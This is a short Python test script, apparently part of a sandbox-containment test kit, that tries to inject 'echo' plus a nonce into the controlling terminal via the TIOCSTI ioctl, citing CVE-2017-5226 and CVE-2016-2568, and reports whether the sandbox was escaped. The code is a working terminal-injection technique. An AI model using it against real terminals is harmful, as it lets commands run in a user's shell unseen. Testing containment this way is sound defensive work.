#!/usr/bin/python3
# Goal:    push a command into the controlling terminal's input (runs in the user's shell after us)
# Models:  CVE-2017-5226 (TIOCSTI), CVE-2016-2568
# Oracle:  tty injected
# Tier:    core
# Needs:   -
# Fixture: tty
from ctk import *
import fcntl, termios

ok = 0
last = None
for p in ("/dev/tty", 0):
    try:
        fd = os.open(p, os.O_RDWR | os.O_NOCTTY) if isinstance(p, str) else p
        for ch in "echo %s\n" % NONCE:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
            ok += 1
        break
    except OSError as e:
        last = e
escaped("%d characters injected" % ok) if ok else contained(str(last))
